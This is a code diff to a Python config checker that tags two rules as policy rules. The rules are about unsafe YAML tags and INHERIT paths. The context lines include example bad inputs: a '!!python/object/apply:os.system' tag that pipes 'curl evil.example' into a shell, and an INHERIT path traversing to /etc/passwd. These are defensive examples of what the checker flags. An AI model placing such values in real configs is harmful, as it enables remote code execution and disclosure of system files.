@@ -16,7 +16,7 @@ import yaml
 
 from refcheck.mdsource import yamlsafe
 from refcheck.config import Config
-from refcheck.findings import Finding, Location, Rule, Severity
+from refcheck.findings import Finding, Location, POLICY, Rule, Severity
 from refcheck.project import Project
 
 CONFIG_PYTHON_TAG = Rule(
@@ -29,6 +29,7 @@ CONFIG_PYTHON_TAG = Rule(
     "in `extra.refcheck.options.config-python-tag.allow`; any other name stays an error.",
     "slugify: !!python/object/apply:os.system [\"curl evil.example | sh\"]",
     "slugify: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}  # allow: [pymdownx.slugs.slugify]",
+    group=POLICY, needs_text=False,
 )
 CONFIG_INHERIT = Rule(
     "config-inherit",
@@ -38,6 +39,7 @@ CONFIG_INHERIT = Rule(
     "loops forever on a cycle; the checker follows INHERIT only inside the project folder.",
     "INHERIT: ../../../etc/passwd",
     "INHERIT: config/base.yml",
+    group=POLICY, needs_text=False,
 )
 RULES = [CONFIG_PYTHON_TAG, CONFIG_INHERIT]
 
